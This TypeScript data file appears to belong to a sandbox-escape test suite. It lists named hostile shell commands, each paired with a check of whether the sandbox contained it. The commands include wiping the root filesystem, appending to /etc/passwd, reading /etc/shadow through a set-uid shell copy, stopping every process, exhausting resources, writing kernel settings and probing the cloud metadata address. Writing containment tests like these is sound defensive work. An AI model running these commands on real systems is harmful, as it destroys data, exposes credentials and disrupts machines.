/** More attacks, for `hostile-commands.ts`: exhaustion, traces that make removal hard, settings of the kernel, networks. Pure data. */
import type { Attack, Outcome } from './hostile-commands.ts';

const failed = (outcome: Outcome) => outcome.exitCode !== 0;
const silent = (outcome: Outcome) => outcome.output.trim() === '';
const refused = (outcome: Outcome) => /refused \d+/.test(outcome.output) && !outcome.output.includes('opened');
const socket = (family: string, type: string) => `python3 - <<'PY'
import socket
try:
  socket.socket(socket.${family}, socket.${type}, 255 if socket.${type} == socket.SOCK_RAW else 0)
  print('opened')
except OSError as e:
  print('refused', e.errno)
PY`;

export const MORE_ATTACKS: readonly Attack[] = [
  {
    name: 'put a link to the root in the place of the work folder',
    script: () => 'cd /; rm -rf /testbed; ln -s / /testbed; echo x > /testbed/etc/hostname; true',
  },
  { name: 'remove everything', script: () => 'rm -rf --no-preserve-root / 2>/dev/null; true' },
  {
    name: 'link a file of the system into the work folder and write to it',
    script: () =>
      'ln /etc/passwd /testbed/p; ln /usr/bin/env /testbed/e; echo evil >> /testbed/p; echo evil >> /testbed/e; true',
  },
  {
    name: 'leave folders that nobody may enter',
    script: () =>
      'mkdir -p /testbed/a/b/c && echo x > /testbed/a/b/c/f && chmod 000 /testbed/a/b/c /testbed/a/b /testbed/a; true',
  },
  {
    name: 'leave a tree of folders deeper than any path',
    script: () =>
      'cd /testbed; p=$(printf "ddddd/%.0s" $(seq 200)); for i in $(seq 8); do mkdir -p "$p" && cd "$p" || break; done; echo x > bottom; true',
  },
  {
    name: 'leave names that are no text',
    script: () => "cd /testbed; touch $'\\xff\\xfe' $'new\\nline' -- '-rf' ; mkdir $'\\x01'; chmod 000 $'\\x01'; true",
  },
  { name: 'print without end', script: () => 'timeout 5 yes "$(head -c 10000 /dev/zero | tr "\\0" y)"; true' },
  {
    name: 'open every descriptor',
    script: () => 'i=0; while [ $i -lt 100000 ] && exec {fd}</dev/null; do i=$((i+1)); done 2>/dev/null; true',
  },
  {
    name: 'make a file of a terabyte without content',
    script: () => 'truncate -s 1T /tmp/hole; truncate -s 1T /testbed/hole; truncate -s 1T /dev/shm/hole; true',
  },
  { name: 'stop every process', script: () => '(sleep 3; kill -CONT -1) & kill -STOP -1; true' },
  {
    name: 'leave processes that are dead and not collected',
    script: () => 'for i in $(seq 30); do (sleep 0.1 & exec sleep 2) & done; sleep 1; true',
  },
  {
    name: 'start a set-uid shell of its own making',
    script: () =>
      'cp /bin/sh /tmp/s && chmod 4755 /tmp/s && /tmp/s -p -c "cat /etc/shadow | grep -c ASSAY-SECRET"; true',
  },
  {
    name: 'hold capabilities that reach beyond the sandbox',
    script: () =>
      'cap=$((16#$(sed -n "s/^CapEff:\\s*//p" /proc/self/status))); for bit in 12 13 16 17 19 21 22 25 27; do [ $((cap >> bit & 1)) = 1 ] && echo has $bit; done; true',
    contained: silent,
  },
  { name: 'run in real time, before all others', script: () => 'chrt -f 99 true', contained: failed },
  {
    name: 'change the name of the machine',
    script: () => 'echo evil > /proc/sys/kernel/hostname || hostname evil',
    contained: failed,
  },
  {
    name: 'write below /sys',
    script: () => 'find /sys -type f -writable 2>/dev/null | head -3',
    contained: silent,
  },
  {
    name: 'write settings of the whole machine',
    script: () =>
      'for name in kernel/core_pattern kernel/sysrq kernel/panic kernel/modprobe kernel/randomize_va_space vm/overcommit_memory vm/drop_caches fs/file-max; do [ -w /proc/sys/$name ] && echo $name; done; true',
    contained: silent,
  },
  {
    name: 'make a control group of its own',
    script: () =>
      'mkdir /sys/fs/cgroup/memory/evil || mkdir /sys/fs/cgroup/pids/evil || { test -e /sys/fs/cgroup/cgroup.procs && mkdir /sys/fs/cgroup/evil; }',
    contained: failed,
  },
  {
    name: 'see devices of the machine',
    script: () => "ls /dev | grep -E '^(sd|vd|nvme|loop|dm-|mem|kmsg|kvm|port|fuse|vhost)'",
    contained: failed,
  },
  {
    name: 'swap to a file, attach a loop device',
    script: () =>
      'head -c 1000000 /dev/zero > /tmp/swap && mkswap -q /tmp/swap 2>/dev/null; swapon /tmp/swap || losetup -f /tmp/swap',
    contained: failed,
  },
  {
    name: 'ask the address where clouds keep their secrets',
    script: () => 'timeout 4 bash -c "exec 3<>/dev/tcp/169.254.169.254/80"',
    contained: failed,
  },
  {
    name: 'send a packet to the internet',
    script: () => 'timeout 4 bash -c "echo x > /dev/udp/192.0.2.1/53"',
    contained: failed,
  },
  {
    name: 'connect to the loopback of the machine by IPv6',
    script: (t) => `timeout 4 bash -c 'exec 3<>/dev/tcp/::1/${t.port}'`,
    contained: failed,
  },
  { name: 'open a raw socket', needs: 'python3', script: () => socket('AF_INET', 'SOCK_RAW'), contained: refused },
  {
    name: 'listen to the packets of an interface',
    needs: 'python3',
    script: () => socket('AF_PACKET', 'SOCK_RAW'),
    contained: refused,
  },
];
